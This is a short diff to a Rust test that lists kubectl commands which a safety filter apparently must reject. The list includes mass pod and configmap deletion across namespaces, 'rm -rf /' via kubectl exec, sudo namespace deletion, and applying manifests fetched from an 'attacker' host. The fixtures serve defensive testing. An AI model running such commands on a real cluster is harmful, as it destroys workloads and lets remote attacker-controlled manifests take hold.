@@ -73,8 +73,9 @@ async fn there_is_no_shell_and_no_file_to_write() {
         "kubectl exec web -- sh -c 'rm -rf /' --dry-run".into(),
         "/tmp/kubectl-evil get pods".into(),
         "sudo kubectl delete ns shop".into(),
-        "kubectl delete pods --all".into(),
-        "kubectl delete configmaps -l a=b".into(),
+        "kubectl delete pods --all-namespaces".into(),
+        "kubectl delete configmaps -l a=b --all".into(),
+        "kubectl delete pods -l a==b,,".into(),
         "kubectl apply -f https://attacker/x.yaml".into(),
         "kubectl apply -k https://attacker/x".into(),
     ] {
